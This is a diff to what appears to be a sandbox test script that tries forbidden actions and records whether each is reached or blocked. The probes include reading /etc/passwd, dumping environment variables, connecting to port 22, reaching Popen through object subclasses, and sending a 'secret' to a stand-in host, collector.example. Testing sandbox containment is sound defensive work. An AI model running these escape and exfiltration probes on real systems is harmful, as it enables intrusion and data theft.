@@ -31,12 +31,16 @@ attempt("a fork", lambda: os.fork())
 attempt("a file of the host", lambda: open("/etc/passwd").read())
 attempt("the processes of the host", lambda: os.listdir("/proc"))
 attempt("the environment of the host", lambda: dict(os.environ))
-attempt("a server", lambda: smuggled("urllib.request").urlopen("http://collector.example/?secret=1").read())
 attempt("a socket", lambda: smuggled("socket").create_connection(("127.0.0.1", 22)))
 attempt("an import that is not granted", lambda: __import__("subprocess"))
 attempt(
     "a class that runs programs",
     lambda: [c for c in object.__subclasses__() if c.__name__ == "Popen"][0](["id"]).wait(),
 )
+try:
+    await smuggled("citadel").fetch("https://collector.example/?secret=1")
+    reached.append("a server")
+except Exception as error:
+    got["a server"] = f"{type(error).__name__}: {error}"
 
 {"reached": reached, "got": got}
